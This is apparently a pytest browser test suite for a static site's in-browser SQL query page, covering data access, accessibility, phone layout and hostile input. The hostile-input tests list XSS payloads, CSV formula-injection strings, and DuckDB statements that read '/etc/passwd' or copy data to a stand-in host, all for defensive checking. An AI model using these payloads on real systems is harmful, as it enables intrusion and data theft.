"""A published site in headless Chromium, from the standard library's file server under a sub-path.

All foreign host names resolve to a port that records requests: a site loads nothing from another host.
CULTUREMETER_SCREENSHOTS names a folder for screenshots.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import polars as pl
import pytest

from tests.deployments.browser import CHROMIUM, SERIOUS, TOO_WIDE, Browser, axe, browser
from tests.ports import free_port
from tests.waiting import until

pytestmark = [
    pytest.mark.heavy,
    pytest.mark.slow,
    pytest.mark.skipif(CHROMIUM is None, reason="there is no chromium here"),
]

ASK = """(async () => {
    const at = (id) => document.getElementById(id);
    at("sql").value = %s;
    at("form").requestSubmit();
    while (at("run").disabled) await new Promise((done) => setTimeout(done, 50));
    const lines = [...document.querySelectorAll("#result tr")];
    const rows = lines.map((line) => [...line.cells].map((cell) => cell.textContent));
    return { status: at("status").textContent, isError: at("status").className === "warning", rows };
})()"""
FOLLOW = """new Promise((done) => {
    addEventListener("hashchange", () => done(true), { once: true });
    location.href = %s;
})"""
HEIGHTS = "[...new Set([...document.querySelectorAll('#result tbody tr')].map((row) => row.offsetHeight))]"
PREFILLED = "document.getElementById('sql').value"


@pytest.fixture(scope="module", name="site")
def _site(published_site: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return Path(shutil.copytree(published_site, tmp_path_factory.mktemp("served") / "deep" / "site"))


def _answers(address: str) -> bool:
    try:
        httpx.get(address)
    except httpx.HTTPError:
        return False
    return True


@pytest.fixture(scope="module", name="address")
def _address(site: Path) -> Iterator[str]:
    port = free_port()
    command = [sys.executable, "-m", "http.server", str(port), "--bind", "127.0.0.1", "--directory"]
    server = subprocess.Popen([*command, str(site.parent.parent)], stderr=subprocess.DEVNULL)
    address = f"http://127.0.0.1:{port}/deep/site"
    try:
        until(lambda: _answers(address), server)
        yield address
    finally:
        server.terminate()
        server.wait()


@pytest.fixture(name="elsewhere")
def _elsewhere() -> Iterator[tuple[str, list[Any]]]:
    """A resolver rule that maps every other host name to a port here, and the requests received there."""
    came: list[Any] = []
    with socket.create_server(("127.0.0.1", 0)) as listener:

        def count() -> None:
            while True:
                try:
                    visitor, _ = listener.accept()
                except OSError:
                    return
                request = b""
                visitor.settimeout(1)
                with visitor, suppress(OSError):
                    while len(request) < 4096 and (more := visitor.recv(4096)):
                        request += more
                # The browser's own requests go to Google; a page's request names its host.
                if request and b"google" not in request:
                    came.append(request)

        threading.Thread(target=count, daemon=True).start()
        yield f"MAP * 127.0.0.1:{listener.getsockname()[1]}, EXCLUDE 127.0.0.1", came


def asked(tab: Browser, sql: str) -> dict[str, Any]:
    """Return what the query page shows: status, isError, and the texts of the table's cells."""
    return dict(tab.run(ASK % json.dumps(sql)))


def test_sql_reads_the_published_files_and_no_other_host(
    site: Path, address: str, elsewhere: tuple[str, list[Any]], tmp_path: Path
) -> None:
    rule, came = elsewhere
    values = pl.read_parquet(site / "data" / "metric_value.parquet")
    counts = values.group_by("model").len().sort("model")
    with browser(tmp_path / "profile", rule) as tab:
        sql = "SELECT model, count(*) AS n FROM metric_value GROUP BY model ORDER BY model"
        tab.open(f"{address}/query.html#sql={quote(sql)}")
        assert tab.run(PREFILLED) == sql
        shown = asked(tab, sql)
        assert shown["rows"] == [["model", "n"], *([model, str(n)] for model, n in counts.rows())]
        assert shown["status"].startswith(f"{counts.height} rows in ")
        columns = "min(finished_at) AS first, 0.5 AS half, NULL AS none, [1, 2] AS l"
        dates = asked(tab, f"SELECT {columns} FROM run")
        first = pl.read_parquet(site / "data" / "run.parquet")["finished_at"].min()
        assert dates["rows"][1] == [f"{first:%Y-%m-%d %H:%M:%S.%f}"[:-3], "0.5", "NULL", "[1,2]"]
        everything = {row[0] for row in asked(tab, "SHOW TABLES")["rows"][1:]}
        assert everything == {file.stem for file in (site / "data").iterdir()}
        for name in sorted(everything):
            n = pl.scan_parquet(site / "data" / f"{name}.parquet").select(pl.len()).collect().item()
            assert asked(tab, f"SELECT count(*) FROM {name}")["rows"][1] == [str(n)], name
        for wrong, message in {
            "SELEC 1": 'near "SELEC"',
            "FROM model_score": 'Did you mean "model_scores"?',
            "": "query is empty",
        }.items():
            shown = asked(tab, wrong)
            assert (shown["isError"], shown["rows"]) == (True, [])
            assert message in shown["status"]
        for outside in (
            "FROM read_csv('https://elsewhere.example/x.csv')",
            "FROM 'https://elsewhere.example/x.parquet'",
            "INSTALL httpfs FROM 'https://elsewhere.example'; LOAD httpfs; FROM metric",
            "SELECT '{}'::JSON ->> 'a'",
            "SET enable_external_access = true",
        ):
            shown = asked(tab, outside)
            assert shown["isError"], shown
            assert "\n" not in shown["status"]
        asked(tab, "SELECT * FROM metric_value LIMIT 20")
        assert tab.run(HEIGHTS) == [tab.run(HEIGHTS)[0]], "no number and no name is broken into lines"
        assert asked(tab, "SELECT 1 AS one")["rows"] == [["one"], ["1"]]  # it works after an error
        for example in tab.run("[...document.querySelectorAll('.examples a')].map((a) => a.href)"):
            tab.run(FOLLOW % json.dumps(example))
            shown = asked(tab, tab.run(PREFILLED))
            assert not shown["isError"], shown
            assert len(shown["rows"]) > 1
    assert came == []


SCRIPT = '<img src="https://elsewhere.example/x" onerror="window.taken = 1"><script>window.taken = 1</script>'
FORMULAS = ('=HYPERLINK("https://elsewhere.example","x")', "@SUM(1)", "+1+cmd|'/C calc'!A0", "-2+3", "\t=1")
NO_FORMULAS = ("-0.5", "+1", "-1e-07", "name", "a=b", "−")
SAVED = """new Promise((done) => {
    const made = URL.createObjectURL;
    URL.createObjectURL = (blob) => {
        URL.createObjectURL = made;
        blob.text().then(done);
        return made(blob);
    };
    document.getElementById("save").click();
})"""
HOSTILE_SQL = (
    "COPY (SELECT 1) TO 'https://elsewhere.example/x.csv'",
    "ATTACH 'https://elsewhere.example/x.duckdb' AS x",
    "FROM read_parquet('https://elsewhere.example/x.parquet')",
    "FROM read_json('https://elsewhere.example/x.json')",
    "FROM read_text('/etc/passwd')",
    "FROM glob('/*')",
    "LOAD httpfs",
    "SET lock_configuration = false",
    "SET custom_extension_repository = 'https://elsewhere.example'",
    "SELECT getenv('HOME')",
    "EXPORT DATABASE 'x'",
    "CALL enable_logging(storage = 'file')",
    "SELECT error('" + SCRIPT.replace("'", "''") + "')",
    "SELECT '" + SCRIPT.replace("'", "''") + "' FROM nowhere",
    SCRIPT,
    "SELECT 1; SELECT" + "(" * 2000,
    "\0",
    "-- nothing",
)


def test_hostile_sql_and_names_run_nothing(
    site: Path, address: str, elsewhere: tuple[str, list[Any]], tmp_path: Path
) -> None:
    rule, came = elsewhere
    with browser(tmp_path / "profile", rule) as tab:
        tab.open(f"{address}/query.html#sql={quote(SCRIPT)}")
        assert tab.run(PREFILLED) == SCRIPT
        assert tab.run("document.querySelector('#result table')") is None, "a link runs nothing"
        models = sorted(set(pl.read_parquet(site / "data" / "metric_value.parquet")["model"]))
        assert any("<script>" in name for name in models)
        shown = asked(tab, "SELECT DISTINCT model FROM metric_value ORDER BY model")
        assert [row for (row,) in shown["rows"][1:]] == models
        values = [*FORMULAS, *NO_FORMULAS, SCRIPT]
        rows = ", ".join("('{}', {})".format(value.replace("'", "''"), -n) for n, value in enumerate(values))
        named = SCRIPT.replace('"', '""')
        shown = asked(tab, f'SELECT a AS "{named}", b AS "=1" FROM (VALUES {rows}) t(a, b)')
        assert not shown["isError"], shown
        assert shown["rows"][0] == [SCRIPT, "=1"]
        assert [row[0].strip() for row in shown["rows"][1:]] == [value.strip() for value in values]
        saved = list(csv.reader(io.StringIO(tab.run(SAVED))))
        guarded = [f"'{value}" for value in FORMULAS]
        assert saved[0] == [SCRIPT, "'=1"]
        assert [row[0] for row in saved[1:]] == [*guarded, *NO_FORMULAS, SCRIPT]
        assert [row[1] for row in saved[1:]] == [str(-n) for n in range(len(values))], "numbers stay numbers"
        for sql in HOSTILE_SQL:
            shown = asked(tab, sql)
            assert shown["isError"] or len(shown["rows"]) <= 2, (sql, shown)
            assert asked(tab, "SELECT count(*) FROM metric")["rows"][1] != ["0"], "the next one is answered"
            assert "root:" not in str(shown)
        # An injected script could request this; the page's content security policy blocks it.
        blocked = "fetch('https://elsewhere.example/?x=1').then(() => 'sent', () => 'blocked')"
        assert tab.run(blocked) == "blocked"
        assert asked(tab, "SELECT 1 AS one")["rows"] == [["one"], ["1"]]
        assert tab.run("window.taken === undefined")
        assert tab.run("document.querySelectorAll('#result img, #result script').length") == 0
        for page in sorted(site.glob("*.html")):
            tab.open(f"{address}/{page.name}")
            assert tab.run("window.taken === undefined"), page.name
    assert came == []


def test_pages_are_accessible_and_fit_a_phone(
    site: Path, address: str, elsewhere: tuple[str, list[Any]], tmp_path: Path
) -> None:
    rule, came = elsewhere
    script, folder = axe(tmp_path), os.environ.get("CULTUREMETER_SCREENSHOTS")
    wrong: list[str] = []
    with browser(tmp_path / "profile", rule) as tab:
        for name in sorted(file.name for file in site.glob("*.html")):
            text = tab.open(f"{address}/{name}")
            assert "Error response" not in text
            if name == "query.html":
                asked(
                    tab, "SELECT model, metric, value, ci_low, ci_high, null_value FROM metric_value LIMIT 20"
                )
            for width in (375, 1280):
                tab.resize(width)
                if tab.run(TOO_WIDE):
                    wrong.append(f"{name} is wider than {width}")
                if folder:
                    tab.screenshot(Path(folder) / f"{name}-{width}.png")
            for scheme in ("light", "dark"):
                tab.resize(1280, scheme=scheme)
                tab.run(script)
                wrong += [f"{name}, {scheme}: {issue}" for issue in tab.run(f"({SERIOUS})()")]
                if folder and scheme == "dark":
                    tab.screenshot(Path(folder) / f"{name}-dark.png")
    assert wrong == []
    assert came == []
